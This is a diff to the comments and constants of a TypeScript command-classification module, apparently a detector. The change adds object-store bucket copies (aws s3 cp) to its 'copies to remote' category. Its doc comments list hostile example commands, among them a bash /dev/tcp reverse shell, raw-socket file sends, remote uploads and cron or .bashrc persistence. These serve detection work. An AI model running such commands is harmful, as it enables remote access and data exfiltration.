@@ -19,7 +19,8 @@
  * file on standard input (`ssh h 'cat > x' < f` gives `ssh`), and `attrs.exec.clientInput`: the
  * commands a script feeds an FTP / SFTP / SMB client on standard input (`ftp -n h <<EOF … put f`
  * gives `ftp put f`), and `attrs.exec.copiesToRemote`: rsync / scp copying a local file to a remote
- * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`) (exec-command-lines.ts);
+ * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`), an object-store CLI copying to a
+ * bucket (`aws s3 cp f s3://b/` gives `aws`; exec-bucket-copies.ts) (exec-command-lines.ts);
  * `attrs.exec.socketIo`: commands on a raw socket (`cat f > /dev/tcp/h/p` gives `send cat`, `bash -i
  * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts);
  * `attrs.exec.persists`: what the exec leaves to run again (`crontab -` gives `cron`, `>> ~/.bashrc`
@@ -211,7 +212,7 @@ const EXEC_ARGV_LINE = 'exec.argvLine';
 const EXEC_STDIN_FROM_FILE = 'exec.stdinFromFile';
 /** Commands a script feeds an FTP / SFTP / SMB client on standard input (exec-command-lines.ts). */
 const EXEC_CLIENT_INPUT = 'exec.clientInput';
-/** rsync / scp copying a local file to a remote destination (exec-command-lines.ts). */
+/** rsync / scp copying a local file to a remote destination, object-store CLIs copying to a bucket (exec-command-lines.ts). */
 const EXEC_COPIES_TO_REMOTE = 'exec.copiesToRemote';
 /** Commands on a raw socket: bash's /dev/tcp, nc -e, a shell piped to nc (exec-socket-io.ts). */
 const EXEC_SOCKET_IO = 'exec.socketIo';
